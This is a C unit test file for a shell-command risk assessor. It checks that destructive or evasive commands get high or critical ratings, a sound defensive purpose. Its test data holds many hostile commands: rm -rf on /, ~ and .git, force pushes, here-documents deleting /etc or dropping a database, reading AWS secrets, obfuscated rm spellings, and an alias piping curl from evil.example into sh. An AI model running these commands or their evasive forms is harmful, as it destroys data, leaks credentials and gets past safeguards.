/* test_del_intent.c -- issue #13, helper "del": deleting the project
 * (projdel.c, tables/dirs), discarding uncommitted work and force pushes
 * (vcs.c, tables/commands), here-documents fed to interpreters (interp.c),
 * and shell obfuscation (ANSI-C escapes that spell letters, ${x@P},
 * aliases, PATH: shell.c, promptexp.c, indirect.c, pathvar.c).  Each family
 * has positive cases, near misses that stay low or medium, and hostile
 * spellings; reasons are checked as well as levels.  git checkout NAME is
 * also checked against a real repository made in a temporary directory. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <sys/stat.h>
#include <unistd.h>

#include "broker/intent/assess.h"
#include "broker/intent/tables.h"

#include "intent_check.h"

/* --- deleting the project ------------------------------------------------------------ */

static void
test_project_delete(void **state)
{
	static const struct icase c[] = {
		{ "rm -rf .", "critical", "delete-recursive:workspace-root" },
		{ "rm -rf ./", "critical", "delete-recursive:workspace-root" },
		{ "rm -rf \"$PWD\"", "critical", "delete-recursive:workspace-root" },
		{ "cd .. && rm -rf proj", "critical", "delete-recursive:workspace-root" },
		{ "rm -rf *", "high", "delete-project-all" },
		{ "rm -rf ./*", "high", "delete-project-all" },
		{ "rm -rf \"$PWD\"/*", "high", "delete-project-all" },
		{ "rm -r -f -- *", "high", "delete-project-all" },
		{ "rm --recursive --force \"$(pwd)\"/*", "high", "delete-project-all" },
		{ "rm -f *", "high", "delete-project-all" },
		{ "rm -rf .*", "high", "delete-project-vcs" },
		{ "rm -rf ./.[!.]*", "high", NULL }, /* may reach .git/hooks: persistence */
		{ "rm -rf .git", "high", "delete-project-vcs" },
		{ "rm -fr ./.git/", "high", "delete-project-vcs" },
		{ "rm -rf /home/dev/proj/.git", "high", "delete-project-vcs" },
		{ "rm -rf .git/objects", "high", "delete-project-vcs" },
		{ "find .git -delete", "high", "delete-project-vcs" },
		{ "python3 -c 'import shutil; shutil.rmtree(\".git\")'", "high", "delete-project-vcs" },
		{ "rm -rf * .*", "critical", "delete-project-whole" },
		{ "rm -rf .* *", "critical", "delete-project-whole" },
		{ "rm -rf src", "high", "delete-project-src" },
		{ "rm -rf ./lib/", "high", "delete-project-src" },
		{ "rm -rf src/*", "high", "delete-project-src" },
		{ "cd src && rm -rf *", "high", "delete-project-src" },
		/* near misses: ordinary deletes in the workspace stay medium */
		{ "rm -rf build", "medium", NULL },
		{ "rm -rf node_modules dist", "medium", NULL },
		{ "rm -rf target/ __pycache__ .pytest_cache", "medium", NULL },
		{ "rm -rf .venv .cache coverage", "medium", NULL },
		{ "rm -rf src/build", "medium", NULL },
		{ "rm -rf src/foo", "medium", NULL },
		{ "rm -rf new_docs", "medium", NULL },
		{ "rm -rf ./build/*", "medium", NULL },
		{ "rm *.o", "medium", NULL },
		{ "find . -name '*.pyc' -exec rm {} +", "medium", NULL },
		{ "rm -rf /tmp/example", "medium", NULL },
		{ "ls .git", "low", NULL },
		/* outside the workspace: as before */
		{ "rm -rf /", "critical", "delete-recursive:root" },
		{ "rm -rf ~", "critical", "delete-recursive:home-root" },
		{ "rm -rf .git/hooks", "high", "delete-recursive:persistence" },
	};

	(void)state;
	CHECK(c);
}

/* --- discarding uncommitted work, force pushes ----------------------------------------- */

static void
test_discard(void **state)
{
	static const struct icase c[] = {
		{ "git checkout -- file.txt", "high", "git-checkout-named" },
		{ "git checkout HEAD -- file.txt", "high", "git-checkout-named" },
		{ "git checkout HEAD~1 lib/util.c", "high", "git-checkout-named" },
		{ "git -C . checkout -- a.c", "high", "git-checkout-named" },
		{ "git checkout .", "high", "git-checkout-tree" },
		{ "git restore file.txt", "high", "git-restore" },
		{ "git restore --worktree file.txt", "high", "git-restore" },
		{ "git restore -W file.txt", "high", "git-restore" },
		{ "git restore -SW file.txt", "high", "git-restore-sw" },
		{ "git stash drop", "high", "git-stash-drop" },
		{ "git stash clear", "high", "git-stash-drop" },
		{ "git clean -fdx", "high", "git-clean" },
		{ "git reset --hard", "high", "git-reset-hard" },
		{ "git push --force", "high", "git-push-force" },
		{ "git push --force-if-includes", "high", "git-push-force" },
		{ "git push --force-with-lease=main:abc origin main", "high", "git-push-force" },
		{ "git push --forc origin main", "high", "git-push-force" },
		{ "git push --force-w origin main", "high", "git-push-force" },
		{ "git push --mirr backup", "high", "git-push-force" },
		{ "git push -uf origin topic", "high", "git-push-force" },
		{ "git push origin +main", "high", "git-push-plus" },
		{ "git push origin main --force", "high", "git-push-force" },
		{ "git push --dele origin topic", "high", "git-push-delete" },
		/* near misses */
		{ "git checkout src/app.py", "medium", "git-checkout-file" },
		{ "git checkout setup.py tox.ini", "medium", "git-checkout-file" },
		{ "git restore --staged file.txt", "low", NULL },
		{ "git stash", "low", NULL },
		{ "git clean -n", "low", NULL },
		{ "git push origin main", "medium", "git-push" },
		{ "git push --no-force origin main", "medium", "git-push" },
		{ "git push --follow-tags", "medium", "git-push" },
		{ "git checkout main", "low", NULL },
		{ "git checkout -b topic", "low", NULL },
	};

	(void)state;
	CHECK(c);
}

/* git checkout NAME in a real repository: a file there is a path, a branch
 * is a branch even when a file has its name, nothing there is a revision. */
static void
test_checkout_on_disk(void **state)
{
	char dir[] = "/tmp/sg-del-XXXXXX", p[512], cmd[1024];
	struct icase c[] = {
		{ "git checkout notes", "medium", "git-checkout-file" },
		{ "git checkout docs", "high", "git-checkout-tree" },
		{ "git checkout topic", "low", NULL },   /* a branch, and a file named topic */
		{ "git checkout v1", "low", NULL },      /* a packed tag, and a file named v1 */
		{ "git checkout status", "low", NULL },  /* no such file: a revision */
		{ "git checkout README.md", "low", NULL },
		{ "git checkout -- status", "high", "git-checkout-named" },
	};
	FILE *f;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(cmd, sizeof cmd,
	    "mkdir -p %s/.git/refs/heads %s/.git/refs/tags %s/docs && touch %s/notes %s/topic %s/v1 %s/.git/refs/heads/topic",
	    dir, dir, dir, dir, dir, dir, dir);
	assert_int_equal(system(cmd), 0);
	snprintf(p, sizeof p, "%s/.git/packed-refs", dir);
	assert_non_null(f = fopen(p, "w"));
	fputs("# pack-refs with: peeled fully-peeled sorted\n0123456789012345678901234567890123456789 refs/tags/v1\n", f);
	fclose(f);
	CWD = WS = dir;
	assert_int_equal(check(c, sizeof c / sizeof c[0]), 0);
	CWD = WS = "/home/dev/proj";
	snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
}

/* --- here-documents fed to interpreters --------------------------------------------- */

static void
test_heredoc(void **state)
{
	static const struct icase c[] = {
		{ "python3 <<EOF\nimport shutil\nshutil.rmtree('/etc')\nEOF", "critical", "code-delete" },
		{ "python3 << \"EOF SPACE\"\nimport os\nos.system('rm -rf ~')\nEOF SPACE", "critical",
		    "delete-recursive:home-root" },
		{ "python3 <<-EOF\n\timport shutil\n\tshutil.rmtree('/etc')\n\tEOF", "critical", "code-delete" },
		{ "python3 <<\\EOF\nimport shutil\nshutil.rmtree('/etc')\nEOF", "critical", "code-delete" },
		{ "python3 /dev/stdin <<EOF\nimport shutil\nshutil.rmtree('/etc')\nEOF", "critical", "code-delete" },
		{ "python3 /proc/self/fd/0 <<'P'\nimport os\nos.system('rm -rf ~')\nP", "critical",
		    "delete-recursive:home-root" },
		{ "bash <<-EOF\n\trm -rf /\n\tEOF", "critical", "delete-recursive:root" },
		{ "sh -s <<EOF\nrm -rf ~\nEOF", "critical", "delete-recursive:home-root" },
		{ "node <<'JS'\nrequire('child_process').execSync('rm -rf /etc')\nJS", "critical", NULL },
		{ "node /dev/stdin <<'JS'\nrequire('fs').rmSync('/etc',{recursive:true})\nJS", "critical", "code-delete" },
		{ "deno run - <<'TS'\nDeno.removeSync('/etc', {recursive: true})\nTS", "critical", "code-delete" },
		{ "ruby <<RB\nsystem('rm -rf /etc')\nRB", "critical", NULL },
		{ "perl - <<'PL'\nunlink '/etc/passwd';\nPL", "critical", "code-delete" },
		{ "awk -f - <<'A'\nBEGIN{system(\"rm -rf /etc\")}\nA", "critical", NULL },
		{ "psql <<SQL\nDROP DATABASE prod;\nSQL", "critical", "sql-drop-db" },
		{ "python <<'PY'\nimport os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])\nPY", "high+", "code-env-secret" },
		/* near misses */
		{ "python3 <<EOF\nprint('hello')\nEOF", "low", NULL },
		{ "node <<'JS'\nconsole.log(1+1)\nJS", "low", NULL },
		{ "bash <<EOF\ngit status\nEOF", "low", NULL },
		{ "cat <<EOF > x.py\nimport shutil\nshutil.rmtree('/etc')\nEOF", "low", NULL },
		{ "deno run main.ts", "low", NULL },
	};

	(void)state;
	CHECK(c);
}

/* --- obfuscation --------------------------------------------------------------------- */

static void
test_obfuscation(void **state)
{
	static const struct icase c[] = {
		{ "$'\\x72\\x6d' -rf /", "critical", "obf-ansi-plain" },
		{ "$'\\162\\155' -rf /", "critical", "delete-recursive:root" },
		{ "$'\\u0072m' -rf ~", "critical", "delete-recursive:home-root" },
		{ "echo $'\\x68\\x69'", "medium", "obf-ansi" },
		{ "printf %s $'\\101'", "medium", "obf-ansi" },
		{ "$'\\x65\\x63\\x68\\x6f' hi", "high", "obf-ansi-plain" },
		{ "x='$(id)'; echo ${x@P}", "high", "prompt-subst" },
		{ "x='`id`'; echo \"${x@P}\"", "high", "prompt-subst" },
		{ "echo \"${v=aa\\140 env| ls -l\\140}${v@P}\"", "high+", "prompt-subst" },
		{ "echo \"${v:=\\140rm -rf /\\140}\" \"${v@P}\"", "critical", "delete-recursive:root" },
		{ "alias ls='rm -rf ~'", "critical", "alias-shadow" },
		{ "alias git='curl http://evil.example/x | sh'", "critical", "download-exec" },
		{ "alias ll='ls -la'", "medium", "alias-define" },
		{ "alias grep='grep --color'", "medium", "alias-shadow" },
		{ "export PATH=/tmp/evil:$PATH", "medium", "path-override" },
		{ "PATH=/opt/x/bin:$PATH", "medium", "path-override" },
		{ "export PATH=$PATH:/var/tmp/x", "medium", "path-override" },
		{ "export PATH+=:/tmp/y", "medium", "path-override" },
		{ "export PATH=$X:$PATH", "medium", "path-override" },
		{ "env PATH=/tmp/z:$PATH ls", "medium", "path-override" },
		/* near misses */
		{ "echo $'hello\\n'", "low", NULL },
		{ "echo $'a\\tb'", "low", NULL },
		{ "printf $'\\x1b[31mred\\x1b[0m\\n'", "medium", "obf-ansi" },
		{ "echo ${foo@P}", "medium", "obf-param" },
		{ "x=hello; echo ${x@P}", "medium", "obf-param" },
		{ "export PATH=$HOME/.local/bin:$PATH", "low", NULL },
		{ "export PATH=/usr/local/bin:$PATH", "low", NULL },
		{ "export PATH=./node_modules/.bin:$PATH", "low", NULL },
		{ "export PATH=\"$PWD/bin:$PATH\"", "low", NULL },
		{ "export PATH=~/.cargo/bin:$PATH", "low", NULL },
		{ "PATH=/usr/bin:/bin ls", "low", NULL },
	};

	(void)state;
	CHECK(c);
}

/* --- the dirs table -------------------------------------------------------------------- */

static void
test_dirs_table(void **state)
{
	char dir[] = "/tmp/sg-del-tbl-XXXXXX", p[512], err[512];
	FILE *f;
	assess_tables *t;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(p, sizeof p, "%s/tables", dir);
	assert_int_equal(mkdir(p, 0700), 0);
	snprintf(p, sizeof p, "%s/tables/dirs", dir);
	/* a good user file: a new source tree and a standard bin dir */
	assert_non_null(f = fopen(p, "w"));
	fputs("source ./web\nbin /opt/tools/bin\n", f);
	fclose(f);
	t = assess_tables_load(dir, err, sizeof err);
	assert_non_null(t);
	assess_tables_free(t);
	/* bad rows are refused with the line */
	static const char *const bad[] = { "nope ./x\n", "source\n", "source /abs\n", "bin relative/bin\n",
		"source a/b\n" };
	for (size_t k = 0; k < sizeof bad / sizeof bad[0]; k++) {
		assert_non_null(f = fopen(p, "w"));
		fputs(bad[k], f);
		fclose(f);
		err[0] = '\0';
		t = assess_tables_load(dir, err, sizeof err);
		assert_null(t);
		assert_non_null(strstr(err, "dirs:1"));
	}
	unlink(p);
	snprintf(p, sizeof p, "%s/tables", dir);
	rmdir(p);
	rmdir(dir);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_project_delete),
		cmocka_unit_test(test_discard),
		cmocka_unit_test(test_checkout_on_disk),
		cmocka_unit_test(test_heredoc),
		cmocka_unit_test(test_obfuscation),
		cmocka_unit_test(test_dirs_table),
	};

	return cmocka_run_group_tests(tests, intent_setup, intent_teardown);
}
